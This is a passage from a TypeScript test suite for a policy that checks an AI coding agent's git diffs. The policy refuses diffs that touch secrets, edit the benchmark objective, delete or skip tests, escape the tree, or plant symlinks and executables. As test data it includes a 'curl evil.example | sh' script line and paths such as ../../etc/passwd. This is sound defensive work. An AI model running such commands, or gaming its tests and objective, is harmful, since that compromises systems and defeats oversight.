import { test } from 'node:test';
import assert from 'node:assert/strict';
import { checkPatch, judgedFiles, type PatchPolicyInput, type Refusal } from './patch-policy.js';

// A small service: the quote function, its tests, a secret the agent must not touch and the
// benchmark that judges it. Diffs below are written as `git diff` prints them.
const TREE: Record<string, string> = {
  'src/quote.ts': [
    'export function quote(price: number): string {',
    '  return price.toFixed(2);',
    '}',
    '',
  ].join('\n'),
  'src/format.ts': "export const currency = 'EUR';\n",
  'src/auth.ts': 'export const token = process.env.TOKEN;\n',
  'bench/latency.yaml': 'p99: 200ms\n',
  'tests/quote.test.ts': [
    "import { test } from 'node:test';",
    "import assert from 'node:assert/strict';",
    "import { quote } from '../src/quote.js';",
    '',
    "test('rounds to cents', () => {",
    "  assert.equal(quote(1.234), '1.23');",
    '});',
    '',
    "test('keeps whole numbers', () => {",
    "  assert.equal(quote(2), '2.00');",
    '});',
    '',
  ].join('\n'),
};

function check(diff: string, overrides: Partial<PatchPolicyInput> = {}) {
  return checkPatch({
    diff,
    allowedPaths: ['src', 'tests'],
    protectedPaths: ['src/auth.ts', 'deploy'],
    protectedImports: new Map(),
    objectiveFiles: ['bench/latency.yaml'],
    testPaths: ['tests'],
    limits: { maxFiles: 10, maxChangedLines: 200, maxBytes: 20_000 },
    tree: { read: (path) => TREE[path] },
    ...overrides,
  });
}

/** The reasons of a verdict that must be a refusal. */
function refusals(diff: string, overrides: Partial<PatchPolicyInput> = {}): Refusal[] {
  const verdict = check(diff, overrides);
  assert.equal(verdict.accepted, false, 'the diff was accepted');
  return verdict.accepted ? [] : verdict.reasons;
}

const diff = (...lines: string[]) => lines.join('\n') + '\n';

/** A one-line change to src/quote.ts, under any name. */
const editQuote = (name = 'src/quote.ts') =>
  diff(
    `diff --git a/${name} b/${name}`,
    'index 408a788..5f395a2 100644',
    `--- a/${name}`,
    `+++ b/${name}`,
    '@@ -1,3 +1,3 @@',
    ' export function quote(price: number): string {',
    '-  return price.toFixed(2);',
    '+  return price.toFixed(3);',
    ' }',
  );

const addFile = (path: string, mode = '100644', line = 'export const added = 1;') =>
  diff(
    `diff --git a/${path} b/${path}`,
    `new file mode ${mode}`,
    'index 0000000..11ecb50',
    '--- /dev/null',
    `+++ b/${path}`,
    '@@ -0,0 +1 @@',
    `+${line}`,
  );

const CLEAN = diff(
  'diff --git a/src/cache.ts b/src/cache.ts',
  'new file mode 100644',
  'index 0000000..11ecb50',
  '--- /dev/null',
  '+++ b/src/cache.ts',
  '@@ -0,0 +1 @@',
  '+export const cache = new Map<string, string>();',
  'diff --git a/src/format.ts b/src/money.ts',
  'similarity index 100%',
  'rename from src/format.ts',
  'rename to src/money.ts',
  'diff --git a/src/quote.ts b/src/quote.ts',
  'index 408a788..5f395a2 100644',
  '--- a/src/quote.ts',
  '+++ b/src/quote.ts',
  '@@ -1,3 +1,5 @@',
  "+import { currency } from './money.js';",
  '+',
  ' export function quote(price: number): string {',
  '-  return price.toFixed(2);',
  '+  return `${price.toFixed(2)} ${currency}`;',
  ' }',
  'diff --git a/tests/quote.test.ts b/tests/quote.test.ts',
  'index a17cdb2..0e52362 100644',
  '--- a/tests/quote.test.ts',
  '+++ b/tests/quote.test.ts',
  "@@ -9,3 +9,7 @@ test('rounds to cents', () => {",
  " test('keeps whole numbers', () => {",
  "   assert.equal(quote(2), '2.00');",
  ' });',
  '+',
  "+test('names the currency', () => {",
  '+  assert.match(quote(1), /EUR$/);',
  '+});',
);

test('a clean diff is accepted and lists each file with its kind and line counts', () => {
  assert.deepEqual(check(CLEAN), {
    accepted: true,
    files: [
      { path: 'src/cache.ts', kind: 'add', linesAdded: 1, linesRemoved: 0 },
      { path: 'src/money.ts', oldPath: 'src/format.ts', kind: 'rename', linesAdded: 0, linesRemoved: 0 },
      { path: 'src/quote.ts', kind: 'modify', linesAdded: 3, linesRemoved: 1 },
      { path: 'tests/quote.test.ts', kind: 'modify', linesAdded: 4, linesRemoved: 0 },
    ],
  });
});

test('deleting a source file, removing an executable bit and moving a test within the tests are accepted', () => {
  const verdict = check(
    diff(
      'diff --git a/src/format.ts b/src/format.ts',
      'deleted file mode 100644',
      'index 1b1cb4d..0000000',
      '--- a/src/format.ts',
      '+++ /dev/null',
      '@@ -1 +0,0 @@',
      "-export const currency = 'EUR';",
      'diff --git a/src/quote.ts b/src/quote.ts',
      'old mode 100755',
      'new mode 100644',
      'diff --git a/tests/quote.test.ts b/tests/unit/quote.test.ts',
      'similarity index 100%',
      'rename from tests/quote.test.ts',
      'rename to tests/unit/quote.test.ts',
    ),
  );
  assert.deepEqual(verdict, {
    accepted: true,
    files: [
      { path: 'src/format.ts', kind: 'delete', linesAdded: 0, linesRemoved: 1 },
      { path: 'src/quote.ts', kind: 'modify', linesAdded: 0, linesRemoved: 0 },
      {
        path: 'tests/unit/quote.test.ts',
        oldPath: 'tests/quote.test.ts',
        kind: 'rename',
        linesAdded: 0,
        linesRemoved: 0,
      },
    ],
  });
});

test('an empty diff is refused', () => {
  for (const text of ['', '\n', '  \n\t\n']) {
    assert.deepEqual(refusals(text), [{ rule: 'Empty', message: 'The diff is empty: it changes no file.' }]);
  }
});

test('text that is not a git diff is refused as malformed, saying where', () => {
  const cases: Array<[string, string]> = [
    [
      diff('--- a/src/quote.ts', '+++ b/src/quote.ts', '@@ -1 +1 @@', '-x', '+y'),
      "The diff cannot be read: it has no 'diff --git' line.",
    ],
    [
      'Here is the patch:\n' + editQuote(),
      "The diff cannot be read: line 1 comes before the first 'diff --git' line.",
    ],
    [
      editQuote().replace('index 408a788..5f395a2 100644', 'permissions: 777'),
      'The diff cannot be read: line 2 is not part of a git diff header: "permissions: 777".',
    ],
    [editQuote() + 'thanks!\n', 'The diff cannot be read: line 10 is not part of a hunk: "thanks!".'],
    [
      editQuote().replace('@@ -1,3 +1,3 @@', '@@ -1,3 +1,4 @@'),
      'The diff cannot be read: hunk at line 5 contained invalid line.',
    ],
    [
      // '-3' counts one old line where the hunk has none; git refuses it, jsdiff would insert.
      diff(
        'diff --git a/src/quote.ts b/src/quote.ts',
        'index 408a788..5f395a2 100644',
        '--- a/src/quote.ts',
        '+++ b/src/quote.ts',
        '@@ -3 +3,2 @@',
        '+// one',
        '+// two',
      ) + addFile('src/new.ts'),
      'The diff cannot be read: the hunk at line 5 holds a different number of lines than its header says.',
    ],
    [
      editQuote().replace(/\n/g, '\r\n'),
      'The diff cannot be read: it has Windows line endings (CRLF); git prints LF.',
    ],
    [
      diff('diff --git a/src/quote.ts b/src/quote.ts', 'index 408a788..5f395a2 100644'),
      'The diff cannot be read: the section for src/quote.ts at line 1 changes nothing.',
    ],
    [
      diff('diff --git a/src/quote.ts b/src/quote.ts', 'old mode 100644', 'new mode 100777'),
      'The diff cannot be read: the section at line 1 sets the unknown file mode 100777.',
    ],
  ];
  for (const [text, message] of cases) assert.deepEqual(refusals(text), [{ rule: 'Malformed', message }]);
});

test('a file changed by two sections is refused as malformed', () => {
  assert.deepEqual(refusals(editQuote() + editQuote()), [
    {
      rule: 'Malformed',
      path: 'src/quote.ts',
      message: 'The diff cannot be read: src/quote.ts is changed by the sections at lines 1 and 10.',
    },
  ]);
});

test('a path that escapes the tree is refused, whatever the trick', () => {
  const quoted = (name: string) =>
    editQuote('PLACEHOLDER')
      .replace('diff --git a/PLACEHOLDER b/PLACEHOLDER', `diff --git "a/${name}" "b/${name}"`)
      .replace('--- a/PLACEHOLDER', `--- "a/${name}"`)
      .replace('+++ b/PLACEHOLDER', `+++ "b/${name}"`);
  const cases: Array<[string, string]> = [
    [
      editQuote('src/../../etc/passwd'),
      `The diff names the path "src/../../etc/passwd", which climbs out of its directory with '..'.`,
    ],
    [
      editQuote('/etc/passwd'),
      'The diff names the absolute path "/etc/passwd"; paths must be relative to the repository root.',
    ],
    [
      quoted('src\\\\quote.ts'),
      `The diff names the path "src\\\\quote.ts", which contains a backslash; directories are separated by '/'.`,
    ],
    [
      quoted('src/quote\\000.ts'),
      'The diff names the path "src/quote\\u0000.ts", which contains a NUL byte.',
    ],
    [
      quoted('src/quote\\n.ts'),
      'The diff names the path "src/quote\\n.ts", which contains a control character.',
    ],
    [
      editQuote('src/.git/hooks/pre-commit'),
      `The diff names the path "src/.git/hooks/pre-commit", which is inside git's own metadata directory.`,
    ],
    [
      editQuote('src//quote.ts'),
      `The diff names the path "src//quote.ts", which has an empty or '.' segment; paths must be in plain form.`,
    ],
    [
      editQuote().replace(/ a\/| b\//g, ' '),
      "The diff at line 1 names its file without git's a/ and b/ prefixes; only diffs as 'git diff' prints them are accepted.",
    ],
    [
      editQuote().replace('--- a/src/quote.ts', '--- /dev/null'),
      'The diff at line 1 takes a/src/quote.ts from /dev/null, but only a new file may.',
    ],
    [
      editQuote().replace('+++ b/src/quote.ts', '+++ /dev/null'),
      'The diff at line 1 sends b/src/quote.ts to /dev/null, but only a deleted file may.',
    ],
    [
      editQuote().replace('+++ b/src/quote.ts', '+++ b/src/auth.ts'),
      "The diff names different files at line 1: 'diff --git' says a/src/quote.ts and b/src/quote.ts, its '---' and '+++' lines say a/src/quote.ts and b/src/auth.ts.",
    ],
    [
      diff(
        'diff --git a/src/format.ts b/src/money.ts',
        'similarity index 100%',
        'rename from src/format.ts',
        'rename to src/auth.ts',
      ),
      "The diff names different files at line 1: 'diff --git' says a/src/format.ts and b/src/money.ts, its rename or copy lines say a/src/format.ts and b/src/auth.ts.",
    ],
  ];
  for (const [text, message] of cases) assert.deepEqual(refusals(text), [{ rule: 'UnsafePath', message }]);
});

test('a path outside the allowed paths is refused; directories match on whole segments', () => {
  assert.deepEqual(refusals(addFile('srcx/quote.ts')), [
    {
      rule: 'OutsideAllowedPaths',
      path: 'srcx/quote.ts',
      message: 'srcx/quote.ts is outside the paths this agent may change (src, tests).',
    },
  ]);
  assert.equal(check(addFile('src/x/quote.ts')).accepted, true);
  assert.equal(check(addFile('README.md'), { allowedPaths: ['.'] }).accepted, true);
  assert.equal(check(addFile('src/new.ts'), { allowedPaths: ['./src/'] }).accepted, true);
});

test('renaming a file out of the allowed paths is refused for its new name', () => {
  const text = diff(
    'diff --git a/src/format.ts b/lib/format.ts',
    'similarity index 100%',
    'rename from src/format.ts',
    'rename to lib/format.ts',
  );
  assert.deepEqual(refusals(text), [
    {
      rule: 'OutsideAllowedPaths',
      path: 'lib/format.ts',
      message: 'lib/format.ts is outside the paths this agent may change (src, tests).',
    },
  ]);
});

test('a protected path is refused under its old and its new name', () => {
  assert.deepEqual(refusals(addFile('deploy/app.yaml', '100644', 'replicas: 0')), [
    {
      rule: 'OutsideAllowedPaths',
      path: 'deploy/app.yaml',
      message: 'deploy/app.yaml is outside the paths this agent may change (src, tests).',
    },
    {
      rule: 'ProtectedPath',
      path: 'deploy/app.yaml',
      message: "deploy/app.yaml is protected by 'deploy'; no candidate may touch it.",
    },
  ]);
  const renameAway = diff(
    'diff --git a/src/auth.ts b/src/auth-old.ts',
    'similarity index 100%',
    'rename from src/auth.ts',
    'rename to src/auth-old.ts',
  );
  assert.deepEqual(refusals(renameAway), [
    {
      rule: 'ProtectedPath',
      path: 'src/auth.ts',
      message: "src/auth.ts is protected by 'src/auth.ts'; no candidate may touch it.",
    },
  ]);
});

test('a copy must be allowed where it lands, and may not read a protected file', () => {
  const copy = (from: string, to: string) =>
    diff(`diff --git a/${from} b/${to}`, 'similarity index 100%', `copy from ${from}`, `copy to ${to}`);
  assert.deepEqual(check(copy('src/format.ts', 'tests/format.ts')), {
    accepted: true,
    files: [
      { path: 'tests/format.ts', oldPath: 'src/format.ts', kind: 'copy', linesAdded: 0, linesRemoved: 0 },
    ],
  });
  assert.deepEqual(refusals(copy('src/auth.ts', 'src/leak.ts')), [
    {
      rule: 'ProtectedPath',
      path: 'src/auth.ts',
      message: "src/auth.ts is protected by 'src/auth.ts'; no candidate may touch it.",
    },
  ]);
});

test('an objective file is refused', () => {
  const text = diff(
    'diff --git a/bench/latency.yaml b/bench/latency.yaml',
    'index 3b18e51..8a5c2ba 100644',
    '--- a/bench/latency.yaml',
    '+++ b/bench/latency.yaml',
    '@@ -1 +1 @@',
    '-p99: 200ms',
    '+p99: 20s',
  );
  assert.deepEqual(refusals(text, { allowedPaths: ['.'] }), [
    {
      rule: 'ObjectiveFile',
      path: 'bench/latency.yaml',
      message:
        "bench/latency.yaml defines what candidates are judged by ('bench/latency.yaml'); no candidate may touch it.",
    },
  ]);
});

test('symlinks, submodules and the executable bit are refused', () => {
  assert.deepEqual(refusals(addFile('src/link.ts', '120000', '../../etc/passwd')), [
    {
      rule: 'Symlink',
      path: 'src/link.ts',
      message:
        'src/link.ts would be a symbolic link (mode 120000); candidates may not add or change symlinks.',
    },
  ]);
  assert.deepEqual(refusals(editQuote().replace('100644', '120000')), [
    {
      rule: 'Symlink',
      path: 'src/quote.ts',
      message:
        'src/quote.ts would be a symbolic link (mode 120000); candidates may not add or change symlinks.',
    },
  ]);
  assert.deepEqual(
    refusals(addFile('src/vendor', '160000', 'Subproject commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904')),
    [
      {
        rule: 'Submodule',
        path: 'src/vendor',
        message:
          'src/vendor would be a git submodule (mode 160000); candidates may not add or change submodules.',
      },
    ],
  );
  const executable = {
    rule: 'ExecutableBit',
    path: 'src/quote.ts',
    message: 'src/quote.ts would become executable (mode 100755); candidates may not set the executable bit.',
  };
  assert.deepEqual(
    refusals(diff('diff --git a/src/quote.ts b/src/quote.ts', 'old mode 100644', 'new mode 100755')),
    [executable],
  );
  assert.deepEqual(refusals(addFile('src/run.sh', '100755', 'echo hi')), [
    { ...executable, path: 'src/run.sh', message: executable.message.replace('src/quote.ts', 'src/run.sh') },
  ]);
  // An index line's 100755 says the file was executable before; editing it is not setting the bit.
  assert.equal(check(editQuote().replace('100644', '100755')).accepted, true);
});

test('binary content is refused, declared or hidden in added lines', () => {
  const binaryHeader = (line: string) =>
    diff('diff --git a/src/logo.png b/src/logo.png', 'new file mode 100644', 'index 0000000..1b1cb4d', line);
  assert.deepEqual(refusals(binaryHeader('Binary files /dev/null and b/src/logo.png differ')), [
    {
      rule: 'Binary',
      path: 'src/logo.png',
      message:
        "src/logo.png has binary content ('Binary files ... differ'); candidates may change text only.",
    },
  ]);
  assert.deepEqual(refusals(binaryHeader('GIT binary patch') + diff('literal 4', 'LcmZQzWMT#N00aO8', '')), [
    {
      rule: 'Binary',
      path: 'src/logo.png',
      message: "src/logo.png has binary content ('GIT binary patch'); candidates may change text only.",
    },
  ]);
  assert.deepEqual(refusals(editQuote().replace('toFixed(3)', 'toFixed(3)\0')), [
    {
      rule: 'Binary',
      path: 'src/quote.ts',
      message:
        'src/quote.ts would get non-text content: its line 2 holds a NUL byte; candidates may change text only.',
    },
  ]);
  assert.deepEqual(refusals(editQuote().replace('toFixed(3)', 'toFixed(3)\u001b[2J')), [
    {
      rule: 'Binary',
      path: 'src/quote.ts',
      message:
        'src/quote.ts would get non-text content: its line 2 holds the control character U+001B; candidates may change text only.',
    },
  ]);
  // Tabs and carriage returns are text.
  assert.equal(check(editQuote().replace('toFixed(3);', 'toFixed(3);\t// cents\r')).accepted, true);
});

test('limits on files, changed lines and bytes are each refused with the numbers', () => {
  const limits = { maxFiles: 3, maxChangedLines: 8, maxBytes: 900 };
  assert.deepEqual(refusals(CLEAN, { limits }), [
    { rule: 'TooManyFiles', message: 'The diff changes 4 files; the limit is 3.' },
    { rule: 'TooManyChangedLines', message: 'The diff adds and removes 9 lines in all; the limit is 8.' },
    { rule: 'TooLarge', message: `The diff is ${Buffer.byteLength(CLEAN)} bytes long; the limit is 900.` },
  ]);
  assert.equal(
    check(CLEAN, { limits: { maxFiles: 4, maxChangedLines: 9, maxBytes: CLEAN.length } }).accepted,
    true,
  );
});

test('deleting a test file, or moving it out of the test paths, is refused', () => {
  const deletion = diff(
    'diff --git a/tests/quote.test.ts b/tests/quote.test.ts',
    'deleted file mode 100644',
    'index a17cdb2..0000000',
    '--- a/tests/quote.test.ts',
    '+++ /dev/null',
    '@@ -1,11 +0,0 @@',
    ...(TREE['tests/quote.test.ts'] as string)
      .split('\n')
      .slice(0, -1)
      .map((line) => `-${line}`),
  );
  assert.deepEqual(refusals(deletion), [
    {
      rule: 'TestDeleted',
      path: 'tests/quote.test.ts',
      message:
        "tests/quote.test.ts holds tests ('tests') and would be deleted; candidates may add tests but not remove them.",
    },
  ]);
  const moveOut = diff(
    'diff --git a/tests/quote.test.ts b/src/quote.test.ts',
    'similarity index 100%',
    'rename from tests/quote.test.ts',
    'rename to src/quote.test.ts',
  );
  assert.deepEqual(refusals(moveOut), [
    {
      rule: 'TestDeleted',
      path: 'tests/quote.test.ts',
      message:
        "tests/quote.test.ts holds tests ('tests') and would move to src/quote.test.ts, outside the test paths; candidates may add tests but not remove them.",
    },
  ]);
});

/** A change to the second test of tests/quote.test.ts: `lines` replace its three lines. */
const editSecondTest = (...lines: string[]) =>
  diff(
    'diff --git a/tests/quote.test.ts b/tests/quote.test.ts',
    'index a17cdb2..0e52362 100644',
    '--- a/tests/quote.test.ts',
    '+++ b/tests/quote.test.ts',
    `@@ -6,6 +6,${3 + lines.length} @@ test('rounds to cents', () => {`,
    "   assert.equal(quote(1.234), '1.23');",
    ' });',
    ' ',
    "-test('keeps whole numbers', () => {",
    "-  assert.equal(quote(2), '2.00');",
    '-});',
    ...lines.map((line) => `+${line}`),
  );

test('removing a test case is refused; rewriting its body or moving it is not', () => {
  assert.deepEqual(refusals(editSecondTest()), [
    {
      rule: 'TestRemoved',
      path: 'tests/quote.test.ts',
      message:
        "tests/quote.test.ts would lose the test 'keeps whole numbers'; candidates may add tests but not remove them.",
    },
  ]);
  assert.deepEqual(
    refusals(editSecondTest("test('keeps integers', () => {", "  assert.equal(quote(2), '2.00');", '});')),
    [
      {
        rule: 'TestRemoved',
        path: 'tests/quote.test.ts',
        message:
          "tests/quote.test.ts would lose the test 'keeps whole numbers'; candidates may add tests but not remove them.",
      },
    ],
  );
  const rewritten = editSecondTest(
    'test("keeps whole numbers", async () => {',
    "  assert.equal(quote(20), '20.00');",
    '});',
  );
  assert.equal(check(rewritten).accepted, true);
});

test('skipping or focusing tests is refused, naming the markers', () => {
  assert.deepEqual(
    refusals(
      editSecondTest("test.skip('keeps whole numbers', () => {", "  assert.equal(quote(2), '2.00');", '});'),
    ),
    [
      {
        rule: 'TestDisabled',
        path: 'tests/quote.test.ts',
        message:
          'tests/quote.test.ts would skip tests or run only some of them (it adds .skip); every test must keep running.',
      },
    ],
  );
  assert.deepEqual(
    refusals(
      editSecondTest(
        "test('keeps whole numbers', { only: true }, () => {",
        "  assert.equal(quote(2), '2.00');",
        '});',
      ),
    ),
    [
      {
        rule: 'TestDisabled',
        path: 'tests/quote.test.ts',
        message:
          'tests/quote.test.ts would skip tests or run only some of them (it adds only: true); every test must keep running.',
      },
    ],
  );
  // Outside the test paths `.skip(` is ordinary code.
  assert.equal(check(editQuote().replace('toFixed(3)', 'toFixed(3).skip(1)')).accepted, true);
});

test('tests weakened without being deleted are refused: a todo, or a skip option of any truthy value', () => {
  const weakened: Array<[string, string]> = [
    ["test('keeps whole numbers', { skip: 1 }, () => {", 'skip: true'],
    ["test('keeps whole numbers', { todo: 'later' }, () => {", 'todo: true'],
    ["test.todo('keeps whole numbers', () => {", '.todo'],
    ["test.skipIf(true)('keeps whole numbers', () => {", '.skipIf'],
  ];
  for (const [line, marker] of weakened) {
    const messages = refusals(editSecondTest(line, "  assert.equal(quote(2), '2.00');", '});')).map(
      (refusal) => refusal.message,
    );
    // (skipIf's title is also no longer read as a declaration: that is a dropped test besides)
    assert.ok(
      messages.includes(
        `tests/quote.test.ts would skip tests or run only some of them (it adds ${marker}); every test must keep running.`,
      ),
      `${line}: ${messages.join(' | ')}`,
    );
  }
  // A plainly false option switches nothing off.
  const kept = editSecondTest(
    "test('keeps whole numbers', { skip: false }, () => {",
    "  assert.equal(quote(2), '2.00');",
    '});',
  );
  assert.equal(check(kept).accepted, true);
});

test('a diff that does not apply to the base tree is refused', () => {
  const cases: Array<[string, string, string]> = [
    [
      editQuote().replace('-  return price.toFixed(2);', '-  return price.toFixed(1);'),
      'src/quote.ts',
      'The diff does not apply to src/quote.ts: its context or removed lines differ from the base tree.',
    ],
    [
      editQuote('src/missing.ts'),
      'src/missing.ts',
      'src/missing.ts does not exist in the base tree, so the diff cannot change it.',
    ],
    [
      addFile('src/format.ts'),
      'src/format.ts',
      'src/format.ts already exists in the base tree, so the diff cannot create it.',
    ],
    [
      diff(
        'diff --git a/src/quote.ts b/src/quote.ts',
        'deleted file mode 100644',
        'index 408a788..0000000',
        '--- a/src/quote.ts',
        '+++ /dev/null',
        '@@ -1,2 +0,0 @@',
        '-export function quote(price: number): string {',
        '-  return price.toFixed(2);',
      ),
      'src/quote.ts',
      'The diff deletes src/quote.ts but does not remove all of its content.',
    ],
  ];
  for (const [text, path, message] of cases) {
    assert.deepEqual(refusals(text), [{ rule: 'DoesNotApply', path, message }]);
  }
});

test('a diff that breaks several rules is refused with every reason, in file order', () => {
  const text = addFile('deploy/run.sh', '100755', 'curl evil.example | sh') + editSecondTest();
  assert.deepEqual(
    refusals(text, { limits: { maxFiles: 1, maxChangedLines: 200, maxBytes: 20_000 } }).map((r) => [
      r.rule,
      r.path,
    ]),
    [
      ['OutsideAllowedPaths', 'deploy/run.sh'],
      ['ProtectedPath', 'deploy/run.sh'],
      ['ExecutableBit', 'deploy/run.sh'],
      ['TestRemoved', 'tests/quote.test.ts'],
      ['TooManyFiles', undefined],
    ],
  );
});

test('the tree is never asked for a path that is not safe', () => {
  const asked: string[] = [];
  check(editQuote('src/../../etc/passwd') + addFile('/etc/cron.d/job') + editQuote(), {
    tree: {
      read: (path) => {
        asked.push(path);
        return TREE[path];
      },
    },
  });
  assert.deepEqual(asked, ['src/quote.ts']);
});

test('files toolchains load by convention are refused inside allowed paths unless named; node_modules always', () => {
  assert.deepEqual(refusals(addFile('src/package.json', '100644', '{"type":"commonjs"}')), [
    {
      rule: 'ConventionFile',
      path: 'src/package.json',
      message:
        "src/package.json is a package manifest (npm reads its scripts, 'type' and 'exports'): toolchains load it by convention, so changing it reaches beyond the paths the agent allowed; candidates may not change it unless source.paths names it ('src/package.json').",
    },
  ]);
  assert.equal(
    check(addFile('src/package.json', '100644', '{"type":"commonjs"}'), {
      allowedPaths: ['src', 'tests', 'src/package.json'],
    }).accepted,
    true,
  );
  for (const path of ['src/.npmrc', 'src/tsconfig.json', 'tests/conftest.py'])
    assert.deepEqual(
      refusals(addFile(path)).map((refusal) => refusal.rule),
      ['ConventionFile'],
      path,
    );
  const shadow = refusals(addFile('src/node_modules/pg/index.js'), {
    allowedPaths: ['src', 'src/node_modules/pg/index.js'],
  });
  assert.deepEqual(
    shadow.map((refusal) => refusal.message),
    [
      'src/node_modules/pg/index.js is inside node_modules, where an installed package would shadow the real one: toolchains load it by convention, so changing it reaches beyond the paths the agent allowed; candidates may not change it.',
    ],
  );
});

// Regressions found by policy-git-agreement.property.test.ts: diffs git reads one way and the
// policy read another.

test('a name that is not UTF-8 is refused: as text it reads as U+FFFD, which may be any of several files', () => {
  // "\377" and "\376" are different files for git; read as text, both are src/\ufffd.ts.
  const edit = (quoted: string) =>
    diff(
      `diff --git "a/${quoted}" "b/${quoted}"`,
      'index 587be6b..975fbec 100644',
      `--- "a/${quoted}"`,
      `+++ "b/${quoted}"`,
      '@@ -1 +1 @@',
      '-x',
      '+y',
    );
  const tree = { read: (path: string) => (path === 'src/\ufffd.ts' ? 'x\n' : undefined) };
  for (const quoted of ['src/\\377.ts', 'src/\\376.ts', 'src/\\303.ts', 'src/\ufffd.ts']) {
    assert.deepEqual(refusals(edit(quoted), { tree }), [
      {
        rule: 'UnsafePath',
        message:
          'The diff names the path "src/\ufffd.ts", which is not valid UTF-8 (or holds U+FFFD); only UTF-8 names can be checked.',
      },
    ]);
  }
});

test('a name that ends with whitespace is refused as such, not as headers that disagree', () => {
  // git ends such a name on the ---/+++ lines with a tab; jsdiff trims it away.
  const added = diff(
    'diff --git a/src/notes  b/src/notes ',
    'new file mode 100644',
    'index 0000000..587be6b',
    '--- /dev/null',
    '+++ b/src/notes \t',
    '@@ -0,0 +1 @@',
    '+x',
  );
  assert.deepEqual(refusals(added), [
    {
      rule: 'UnsafePath',
      message:
        'The diff names the path "src/notes ", which ends with whitespace; diff readers drop it, so such names are not accepted.',
    },
  ]);
});

test("a rename whose 'diff --git' line splits more than one way is read from its rename lines, as git reads it", () => {
  const tree = { read: (path: string) => (path === 'src/with space.ts' ? 'x\n' : undefined) };
  const rename = (gitLine: string) =>
    diff(gitLine, 'similarity index 100%', 'rename from src/with space.ts', 'rename to src/a b/c.ts');
  assert.deepEqual(check(rename('diff --git a/src/with space.ts b/src/a b/c.ts'), { tree }), {
    accepted: true,
    files: [
      { path: 'src/a b/c.ts', oldPath: 'src/with space.ts', kind: 'rename', linesAdded: 0, linesRemoved: 0 },
    ],
  });
  // A line that is not those two names still disagrees with them.
  assert.deepEqual(
    refusals(rename('diff --git a/src/with space.ts b/src/other.ts'), { tree }).map((r) => r.rule),
    ['UnsafePath'],
  );
});

test('one file may be the source of several copies, and be changed too: a copy only reads it', () => {
  const copy = (to: string) =>
    diff(
      `diff --git a/src/format.ts b/${to}`,
      'similarity index 100%',
      'copy from src/format.ts',
      `copy to ${to}`,
    );
  const changeFormat = diff(
    'diff --git a/src/format.ts b/src/format.ts',
    'index 0e0c6f9..1d3b3b0 100644',
    '--- a/src/format.ts',
    '+++ b/src/format.ts',
    '@@ -1 +1 @@',
    "-export const currency = 'EUR';",
    "+export const currency = 'USD';",
  );
  const text = copy('src/money.ts') + changeFormat + copy('src/cash.ts');
  const verdict = check(text);
  assert.equal(verdict.accepted, true, JSON.stringify(verdict));
  const judged = judgedFiles(text, { read: (path) => TREE[path] });
  // git copies the base's content whatever the order of the sections.
  assert.equal(judged.get('src/money.ts'), "export const currency = 'EUR';\n");
  assert.equal(judged.get('src/cash.ts'), "export const currency = 'EUR';\n");
  assert.equal(judged.get('src/format.ts'), "export const currency = 'USD';\n");
});

test('a blank context line written without its space is read as git reads it, at the end of a section too', () => {
  // git diff -c diff.suppressBlankEmpty=true writes blank context lines so.
  const tree = { read: (path: string) => ({ 'src/a.ts': 'one\n\n', 'src/b.ts': 'b\n' })[path] };
  const text =
    diff(
      'diff --git a/src/a.ts b/src/a.ts',
      'index 1f1b2c2..fd3c5c5 100644',
      '--- a/src/a.ts',
      '+++ b/src/a.ts',
    ) +
    diff('@@ -1,2 +1,3 @@', ' one', '+two', '') +
    addFile('src/c.ts');
  assert.equal(check(text, { tree }).accepted, true);
  assert.equal(judgedFiles(text, tree).get('src/a.ts'), 'one\ntwo\n\n');
});

test("'\\ No newline at end of file' is held to the base's last line and may only end a side, as git holds it", () => {
  const tree = { read: (path: string) => ({ 'src/lf.ts': 'a\nb\n', 'src/bare.ts': 'a\nb' })[path] };
  const edit = (path: string, ...hunk: string[]) =>
    diff(
      `diff --git a/${path} b/${path}`,
      'index 1f1b2c2..fd3c5c5 100644',
      `--- a/${path}`,
      `+++ b/${path}`,
      ...hunk,
    );
  const rulesOf = (text: string) => refusals(text, { tree }).map((r) => r.rule);
  // The marker says b ends the file without a newline; it has one, and git would take it away.
  assert.deepEqual(
    rulesOf(edit('src/lf.ts', '@@ -1,2 +1,3 @@', ' a', '+x', ' b', '\\ No newline at end of file')),
    ['DoesNotApply'],
  );
  // No marker, but b ends the file without a newline: git refuses the hunk.
  assert.deepEqual(rulesOf(edit('src/bare.ts', '@@ -1,2 +1,3 @@', ' a', '+x', ' b')), ['DoesNotApply']);
  // A marker in the middle of the new text: git would join x to the next line.
  assert.deepEqual(
    rulesOf(edit('src/lf.ts', '@@ -1,2 +1,3 @@', ' a', '+x', '\\ No newline at end of file', ' b')),
    ['Malformed'],
  );
  const bare = edit('src/bare.ts', '@@ -1,2 +1,3 @@', ' a', '+x', ' b', '\\ No newline at end of file');
  assert.equal(check(bare, { tree }).accepted, true);
  assert.equal(judgedFiles(bare, tree).get('src/bare.ts'), 'a\nx\nb');
});

test('what jsdiff reads past but git refuses the patch for is refused: text between hunks, half a rename or mode change, no last line break, old lines in a new file', () => {
  const tree = {
    read: (path: string) => ({ 'src/n.ts': '1\n2\n3\n4\n5\n6\n7\n8\n9\n', 'src/old.ts': 'x\n' })[path],
  };
  const rulesOf = (text: string) => refusals(text, { tree }).map((r) => r.message);
  const headers = diff(
    'diff --git a/src/n.ts b/src/n.ts',
    'index 1f1b2c2..fd3c5c5 100644',
    '--- a/src/n.ts',
    '+++ b/src/n.ts',
  );
  const first = diff('@@ -1,2 +1,2 @@', '-1', '+one', ' 2');
  const last = diff('@@ -8,2 +8,2 @@', ' 8', '-9', '+nine');
  // After a blank line git expects no more hunks ("patch fragment without header"); jsdiff reads on.
  assert.deepEqual(rulesOf(headers + first + '\n' + last), [
    'The diff cannot be read: line 9 is not part of a hunk: "".',
  ]);
  // Before the first hunk git finds only garbage; jsdiff skips the line.
  assert.deepEqual(rulesOf(headers + '+smuggled\n' + first), [
    'The diff cannot be read: line 5 is not part of a hunk: "+smuggled".',
  ]);
  // git takes a rename from both of its lines ("lacks filename information" otherwise).
  assert.deepEqual(
    rulesOf(diff('diff --git a/src/old.ts b/src/new.ts', 'similarity index 100%', 'rename to src/new.ts')),
    ["The diff cannot be read: the section at line 1 needs one 'rename from' and one 'rename to' line."],
  );
  assert.deepEqual(rulesOf(diff('diff --git a/src/old.ts b/src/old.ts', 'new mode 100644')), [
    "The diff cannot be read: the section at line 1 needs one 'old mode' and one 'new mode' line.",
  ]);
  // git reads a last hunk line without its line break as a corrupt patch.
  assert.deepEqual(rulesOf((headers + first).slice(0, -1)), [
